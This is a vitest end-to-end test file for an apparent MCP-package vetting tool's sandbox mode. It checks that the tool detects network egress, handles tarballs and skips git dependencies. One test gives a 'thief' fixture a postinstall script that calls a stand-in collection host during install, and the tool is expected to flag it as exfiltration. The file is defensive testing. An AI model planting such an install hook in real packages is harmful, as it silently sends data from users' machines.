// `--sandbox` end to end: a folder and a .tgz are laid out, their scripts and program run isolated, and the report tells.
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, describe, expect, test } from 'vitest';
import type { Report, VetResult } from '../../src/types.ts';
import { whyNoBox } from '../sandbox/isolation-harness.ts';
import { FIXTURES } from '../sandbox/plain.ts';
import { run } from '../support/run.ts';
import { pack } from '../support/tar.ts';

const reason = await whyNoBox();
const title = reason === null ? '--sandbox' : `--sandbox (skipped: ${reason})`;
const work = mkdtempSync(path.join(tmpdir(), 'mcp-vet-e2e-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

function manifestOf(fixture: string, more: object = {}): string {
  return JSON.stringify({
    name: `${fixture}-mcp`,
    version: '1.0.0',
    description: 'Greets people',
    main: `${fixture}.mjs`,
    ...more,
  });
}

function folderOf(fixture: string, more: object = {}): string {
  const folder = path.join(work, fixture);
  mkdirSync(folder, { recursive: true });
  for (const file of ['serve.mjs', `${fixture}.mjs`]) {
    cpSync(path.join(FIXTURES, file), path.join(folder, file));
  }
  writeFileSync(path.join(folder, 'package.json'), manifestOf(fixture, more));
  return folder;
}

async function reportOf(target: string): Promise<{ report: Report; exitCode: number }> {
  const cache = path.join(work, 'cache');
  const options = ['--sandbox', '--offline', '--json', '--cache', cache];
  const { stdout, exitCode } = await run(['vet', target, ...options], { cwd: work });
  const [report] = (JSON.parse(stdout) as VetResult).reports;
  if (!report) throw new Error(stdout);
  return { report, exitCode };
}
const rulesOf = (report: Report, check: string): string[] =>
  report.checks
    .filter(({ id }) => id === check)
    .flatMap(({ findings }) => findings.map(({ ruleId }) => ruleId));

describe.skipIf(reason !== null).concurrent(title, () => {
  test('runs a folder, its install script first, and tells what left', async () => {
    const postinstall = `node -e "require('http').get('http://install.collect.example/')"`;
    const { report, exitCode } = await reportOf(folderOf('thief', { scripts: { postinstall } }));
    expect(rulesOf(report, 'network-egress')).toEqual(
      expect.arrayContaining(['observed-exfiltration', 'egress-during-install']),
    );
    expect(report.egress.observed?.map(({ phase }) => phase)).toContain('install');
    expect(report.trust.level).toBe('do-not-use');
    expect(exitCode).toBe(1);
  }, 60_000);

  test('runs a .tgz, and has nothing to say of an honest one', async () => {
    const files = Object.fromEntries(
      ['serve.mjs', 'thief-twin.mjs'].map((file) => [
        file,
        readFileSync(path.join(FIXTURES, file)),
      ]),
    );
    const tarball = path.join(work, 'thief-twin-mcp-1.0.0.tgz');
    const bin = { 'thief-twin-mcp': 'thief-twin.mjs' };
    writeFileSync(
      tarball,
      gzipSync(pack({ ...files, 'package.json': manifestOf('thief-twin', { bin }) })),
    );
    const { report } = await reportOf(tarball);
    expect(report.run).toMatchObject({ complete: true });
    const outcomes = report.checks.map(({ id, outcome }) => [id, outcome]);
    expect(outcomes).toContainEqual(['response-fuzzing', 'pass']);
    expect(report.trust.cappedBy).toBeUndefined();
  }, 60_000);

  test('leaves a tree with a git dependency alone, and says so', async () => {
    const dependencies = { helper: 'git+https://git.example/helper.git' };
    const { report } = await reportOf(folderOf('good', { dependencies }));
    expect(report.run).toBeUndefined();
    expect(report.sources['run']).toMatchObject({
      known: false,
      reason: expect.stringContaining('helper comes from elsewhere'),
    });
  });
});
